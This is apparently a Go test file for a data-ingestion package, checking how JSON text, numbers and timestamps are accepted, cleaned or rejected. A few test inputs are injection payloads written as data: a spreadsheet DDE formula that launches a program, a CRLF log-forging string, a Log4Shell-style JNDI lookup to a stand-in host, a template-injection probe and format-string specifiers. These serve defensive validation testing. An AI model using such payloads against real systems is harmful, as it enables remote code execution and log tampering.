package accept

import (
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"meterhouse/etl"
	"meterhouse/etl/internal/jsonread"
)

// scalar reads one JSON value.
func scalar(t testing.TB, doc string) jsonread.Scalar {
	t.Helper()
	s, err := jsonread.New(strings.NewReader(doc)).Scalar()
	if err != nil {
		t.Fatalf("%s: %v", doc, err)
	}
	return s
}

func TestKeyText(t *testing.T) {
	for _, c := range []struct {
		name, doc string
		coerce    bool
		text      string
		warnings  string
		reason    string
	}{
		{"plain", `"Extreme"`, false, "Extreme", "", ""},
		{"inner blank", `"Data Protect"`, false, "Data Protect", "", ""},
		{"S01 empty", `""`, false, "", "", "value_missing"},
		{"S02 blank", `"   "`, false, "", "trimmed", "value_missing"},
		{"S03 integer", `12345`, true, "12345", "type_coerced", ""},
		{"integer not wanted", `12345`, false, "", "", "type_mismatch"},
		{"S04 no integer", `1.5e3`, true, "", "", "type_mismatch"},
		{"decimal", `1.0`, true, "", "", "type_mismatch"},
		{"S05 null", `null`, true, "", "", "value_missing"},
		{"boolean", `true`, true, "", "", "type_mismatch"},
		{"object", `{"a":1}`, true, "", "", "type_mismatch"},
		{"array", `[]`, true, "", "", "type_mismatch"},
		{"NUL", `"a\u0000b"`, false, "", "", "text_control_char"},
		{"C1", `"a\u0085b"`, false, "", "", "text_control_char"},
		{"DEL", `"a\u007fb"`, false, "", "", "text_control_char"},
		{"S09 zero width", `"Extr\u200beme"`, false, "", "", "text_invisible_char"},
		{"no-break blank", `"a\u00a0b"`, false, "", "", "text_invisible_char"},
		{"soft hyphen", `"a\u00adb"`, false, "", "", "text_invisible_char"},
		{"line separator", `"a\u2028b"`, false, "", "", "text_invisible_char"},
		{"paragraph separator", `"a\u2029b"`, false, "", "", "text_invisible_char"},
		{"control before invisible", `"a\u200b\u0001"`, false, "", "", "text_control_char"},
		{"256 characters", `"` + strings.Repeat("é", 256) + `"`, false, strings.Repeat("é", 256), "", ""},
		{"257 characters", `"` + strings.Repeat("é", 257) + `"`, false, "", "", "text_too_long"},
		{"S11 blanks around", `" Extreme\t"`, false, "Extreme", "trimmed", ""},
		{"S12 decomposed", `"Extre\u0301me"`, false, "Extr\u00e9me", "", ""},
		{"R33", `"string"`, false, "", "", "placeholder"},
		{"R33 trimmed", `" string "`, false, "", "trimmed", "placeholder"},
		{"no placeholder", `"String"`, false, "String", "", ""},
		{"formula", `"=cmd|' /C calc'!A0"`, false, "=cmd|' /C calc'!A0", "", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			text, warnings, reason := KeyText(scalar(t, c.doc), c.coerce)
			if text != c.text || strings.Join(warnings, " ") != c.warnings || reason != c.reason {
				t.Errorf("got %q %v %q, want %q [%s] %q", text, warnings, reason, c.text, c.warnings, c.reason)
			}
		})
	}
}

func TestDisplayText(t *testing.T) {
	for _, c := range []struct {
		name, doc, text, warnings string
	}{
		{"plain", `"ACME"`, "ACME", ""},
		{"verbatim", `" ACME "`, " ACME ", ""},
		{"empty", `""`, "", ""},
		{"S06 NUL", `"AC\u0000ME"`, "AC\ufffdME", "text_cleaned"},
		{"S07 line break", `"ACME\r\nlevel=ERROR forged"`, "ACME\ufffd\ufffdlevel=ERROR forged", "text_cleaned"},
		{"S08 bidi", `"ACME\u202eTXT"`, "ACME\ufffdTXT", "text_cleaned"},
		{"S10 long", `"` + strings.Repeat("x", 300) + `"`, strings.Repeat("x", 256), "text_cleaned"},
		{"S16 templates", `"${jndi:ldap://x/a} {{7*7}} %s %n"`, "${jndi:ldap://x/a} {{7*7}} %s %n", ""},
		{"S17 null", `null`, "<nil>", "null_optional"},
		{"number", `12`, "12", "type_coerced"},
		{"object", `{}`, "<nil>", "text_cleaned"},
	} {
		t.Run(c.name, func(t *testing.T) {
			text, warnings := DisplayText(scalar(t, c.doc))
			got := "<nil>"
			if text != nil {
				got = *text
			}
			if got != c.text || strings.Join(warnings, " ") != c.warnings {
				t.Errorf("got %q %v, want %q [%s]", got, warnings, c.text, c.warnings)
			}
		})
	}
}

func TestExcerpt(t *testing.T) {
	got := Excerpt([]byte("a\x1b]0;b\xff\u202ec é" + strings.Repeat("x", 600)))
	if want := "a\ufffd]0;b\ufffd\ufffdc é"; !strings.HasPrefix(got, want) || utf8.RuneCountInString(got) != 500 {
		t.Errorf("got %d characters, %q", utf8.RuneCountInString(got), got)
	}
}

func TestMeasure(t *testing.T) {
	for _, c := range []struct {
		name, doc, value, warnings, reason string
	}{
		{"number", `112.5`, "112.5", "", ""},
		{"N25 text", `"112.5"`, "112.5", "", ""},
		{"zero", `0`, "0", "", ""},
		{"N01 null", `null`, "0", "", "value_missing"},
		{"N03 empty", `""`, "0", "", "value_missing"},
		{"blank", `"  "`, "0", "trimmed", "value_missing"},
		{"N04", `"N/A"`, "0", "", "number_format"},
		{"N05", `"NaN"`, "0", "", "number_format"},
		{"N06", `"-Infinity"`, "0", "", "number_format"},
		{"N07", `1e400`, "0", "", "number_range"},
		{"N08", `1e-400`, "0", "", "number_range"},
		{"N09 negative", `-0.01`, "-0.01", "number_negative", ""},
		{"N10 negative zero", `-0.0`, "0", "negative_zero", ""},
		{"negative zero as text", `" -0"`, "0", "trimmed negative_zero", ""},
		{"negative text", `"-1 "`, "-1", "trimmed number_negative", ""},
		{"N11", `"112,5"`, "0", "", "number_format"},
		{"N12", `"1,112.5"`, "0", "", "number_format"},
		{"N13", `" 112.5 "`, "112.5", "trimmed", ""},
		{"N14", `"\u0661\u0662"`, "0", "", "number_format"},
		{"N15", `"0x70"`, "0", "", "number_format"},
		{"N16", `"112_500"`, "0", "", "number_format"},
		{"N17", `"112.5 TiB"`, "0", "", "number_format"},
		{"plus sign", `"+1"`, "0", "", "number_format"},
		{"leading zero", `"0112.5"`, "0", "", "number_format"},
		{"N18", `true`, "0", "", "type_mismatch"},
		{"N19", `[112.5]`, "0", "", "type_mismatch"},
		{"N20", `{"value":112.5,"unit":"TiB"}`, "0", "", "type_mismatch"},
		{"N21", `1000000000`, "0", "", "number_range"},
		{"just below", `999999999.999999`, "999999999.999999", "", ""},
		{"far below zero", `-1000000000`, "0", "", "number_range"},
		{"N22", `112.500000000000000000001`, "112.500000000000000000001", "", ""},
		{"N23", `1.125e2`, "112.5", "", ""},
		{"three digits of exponent", `1e002`, "0", "", "number_range"},
		{"40 characters", `"1.` + strings.Repeat("1", 38) + `"`, "1." + strings.Repeat("1", 38), "", ""},
		{"41 characters", `"1.` + strings.Repeat("1", 39) + `"`, "0", "", "number_range"},
	} {
		t.Run(c.name, func(t *testing.T) {
			value, warnings, reason := Measure(scalar(t, c.doc))
			if value.String() != c.value || strings.Join(warnings, " ") != c.warnings || reason != c.reason {
				t.Errorf("got %s %v %q, want %s [%s] %q", value, warnings, reason, c.value, c.warnings, c.reason)
			}
		})
	}
}

func TestTime(t *testing.T) {
	for _, c := range []struct {
		name, doc, at, warnings, reason string
	}{
		{"UTC", `"2026-05-14T00:00:00Z"`, "2026-05-14T00:00:00Z", "", ""},
		{"zero offset", `"2026-05-14T00:00:00+00:00"`, "2026-05-14T00:00:00Z", "", ""},
		{"negative zero offset", `"2026-05-14T00:00:00-00:00"`, "2026-05-14T00:00:00Z", "", ""},
		{"milliseconds", `"2027-12-31T23:59:59.255Z"`, "2027-12-31T23:59:59.255Z", "", ""},
		{"one digit", `"2027-12-31T23:59:59.2Z"`, "2027-12-31T23:59:59.2Z", "", ""},
		{"T01 no zone", `"2026-05-14T00:00:00"`, "2026-05-14T00:00:00Z", "zone_assumed_utc", ""},
		{"T02 date", `"2026-05-14"`, "2026-05-14T00:00:00Z", "date_only", ""},
		{"T03 epoch", `1778716800`, "", "", "type_mismatch"},
		{"T04 leap second", `"2026-05-14T23:59:60Z"`, "", "", "time_leap_second"},
		{"second 61", `"2026-05-14T23:59:61Z"`, "", "", "time_format"},
		{"T05 cut, not rounded", `"2026-05-14T23:59:59.9999996Z"`, "2026-05-14T23:59:59.999999Z", "time_truncated", ""},
		{"nothing lost", `"2026-05-14T23:59:59.999999000Z"`, "2026-05-14T23:59:59.999999Z", "", ""},
		{"12 digits", `"2026-05-14T23:59:59.000000000001Z"`, "2026-05-14T23:59:59Z", "time_truncated", ""},
		{"13 digits", `"2026-05-14T23:59:59.0000000000001Z"`, "", "", "time_format"},
		{"point without digits", `"2026-05-14T23:59:59.Z"`, "", "", "time_format"},
		{"T06 hour 24", `"2026-05-14T24:00:00Z"`, "", "", "time_format"},
		{"minute 60", `"2026-05-14T23:60:00Z"`, "", "", "time_format"},
		{"T07 30 February", `"2026-02-30T00:00:00Z"`, "", "", "time_format"},
		{"29 February 2026", `"2026-02-29"`, "", "", "time_format"},
		{"29 February 2028", `"2028-02-29"`, "2028-02-29T00:00:00Z", "date_only", ""},
		{"29 February 1900", `"1900-02-29"`, "", "", "time_format"},
		{"29 February 2000", `"2000-02-29"`, "2000-02-29T00:00:00Z", "date_only", ""},
		{"month 13", `"2026-13-01"`, "", "", "time_format"},
		{"day 0", `"2026-01-00"`, "", "", "time_format"},
		{"year 0", `"0000-01-01"`, "", "", "time_format"},
		{"T08 zero value", `"0001-01-01T00:00:00Z"`, "0001-01-01T00:00:00Z", "", ""},
		{"T09 sentinel", `"9999-12-31T23:59:59Z"`, "9999-12-31T23:59:59Z", "", ""},
		{"T12 offset", `"2026-05-15T20:00:00-05:00"`, "2026-05-16T01:00:00Z", "offset_in_utc_field", ""},
		{"offset 14:00", `"2026-05-15T20:00:00+14:00"`, "2026-05-15T06:00:00Z", "offset_in_utc_field", ""},
		{"offset 14:01", `"2026-05-15T20:00:00+14:01"`, "", "", "time_format"},
		{"T14 offset 24:00", `"2026-05-14T00:00:00+24:00"`, "", "", "time_format"},
		{"offset minute 60", `"2026-05-14T00:00:00+05:60"`, "", "", "time_format"},
		{"offset without colon", `"2026-05-14T00:00:00+0500"`, "", "", "time_format"},
		{"T15 one-digit hour", `"2026-05-14T0:00:00Z"`, "", "", "time_format"},
		{"T16 comma", `"2026-05-14T00:00:00,5Z"`, "", "", "time_format"},
		{"T17 blank", `"2026-05-14 00:00:00Z"`, "2026-05-14T00:00:00Z", "", ""},
		{"two blanks", `"2026-05-14  00:00:00Z"`, "", "", "time_format"},
		{"small t", `"2026-05-14t00:00:00Z"`, "", "", "time_format"},
		{"small z", `"2026-05-14T00:00:00z"`, "", "", "time_format"},
		{"date and zone", `"2026-05-14Z"`, "", "", "time_format"},
		{"date and T", `"2026-05-14T"`, "", "", "time_format"},
		{"without seconds", `"2026-05-14T00:00Z"`, "", "", "time_format"},
		{"blanks around", `" 2026-05-14T00:00:00Z"`, "", "", "time_format"},
		{"something behind", `"2026-05-14T00:00:00Zx"`, "", "", "time_format"},
		{"other digits", `"２０２６-05-14"`, "", "", "time_format"},
		{"signed year", `"-026-05-14"`, "", "", "time_format"},
		{"T18 word", `"now"`, "", "", "time_format"},
		{"T19 empty", `""`, "", "", "value_missing"},
		{"null", `null`, "", "", "value_missing"},
		{"boolean", `false`, "", "", "type_mismatch"},
		{"all at once", `"2026-05-14 00:00:00.1234567+02:00"`, "2026-05-13T22:00:00.123456Z", "offset_in_utc_field time_truncated", ""},
		{"before 1970", `"1969-12-31T23:59:59.5Z"`, "1969-12-31T23:59:59.5Z", "", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			at, warnings, reason := Time(scalar(t, c.doc))
			got := ""
			if reason == "" {
				got = at.Format(time.RFC3339Nano)
			}
			if got != c.at || strings.Join(warnings, " ") != c.warnings || reason != c.reason {
				t.Errorf("got %s %v %q, want %s [%s] %q", got, warnings, reason, c.at, c.warnings, c.reason)
			}
		})
	}
}

func TestDateAgreesWithTheCalendar(t *testing.T) {
	for at := time.Date(1, 1, 1, 0, 0, 0, 0, time.UTC); at.Year() < 10000; at = at.AddDate(0, 0, 13) {
		text := at.Format(time.DateOnly)
		got, ok := Date([]byte(text))
		if want := etl.DayOf(at); !ok || got != want {
			t.Fatalf("%s: got %d, want %d", text, got, want)
		}
	}
}

func FuzzTime(f *testing.F) {
	for _, s := range []string{"2026-05-14T00:00:00Z", "2026-05-14", "2026-05-14 23:59:59.1234567-05:30", "2026-02-30", "now", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		at, warnings, reason := Time(jsonread.Scalar{Kind: jsonread.String, Text: []byte(text)})
		if reason != "" {
			return
		}
		// What we accept, the standard library reads as the same instant.
		layout := "2006-01-02T15:04:05.999999999999Z07:00"
		switch {
		case slices.Contains(warnings, "date_only"):
			layout = time.DateOnly
		case slices.Contains(warnings, "zone_assumed_utc"):
			layout = "2006-01-02T15:04:05.999999999999"
		}
		if len(text) > 10 && text[10] == ' ' {
			text = text[:10] + "T" + text[11:]
		}
		want, err := time.Parse(layout, text)
		if err != nil {
			t.Fatalf("%q: accepted, but %v", text, err)
		}
		if want = want.UTC().Truncate(time.Microsecond); !at.Equal(want) {
			t.Errorf("%q: got %s, want %s", text, at, want)
		}
	})
}

func FuzzMeasure(f *testing.F) {
	for _, s := range []string{"112.5", "-0.0", " 1e5 ", "1e400", "0x70", "", "999999999"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, kind := range []jsonread.Kind{jsonread.String, jsonread.Number} {
			if kind == jsonread.Number && text == "" {
				continue // no number literal is empty
			}
			value, _, reason := Measure(jsonread.Scalar{Kind: kind, Text: []byte(text)})
			if reason != "" {
				continue
			}
			again, warnings, reason := Measure(jsonread.Scalar{Kind: jsonread.String, Text: value.AppendText(nil)})
			if len(value.String()) <= 40 && (reason != "" || !again.Equal(value)) {
				t.Errorf("%q: %s does not come back: %s %v %s", text, value, again, warnings, reason)
			}
		}
	})
}

func TestWarningsAreNames(t *testing.T) {
	want := []string{"date_only", "zone_assumed_utc", "offset_in_utc_field", "time_truncated"}
	if diff := cmp.Diff(want, timeWarnings[15]); diff != "" {
		t.Error(diff)
	}
}
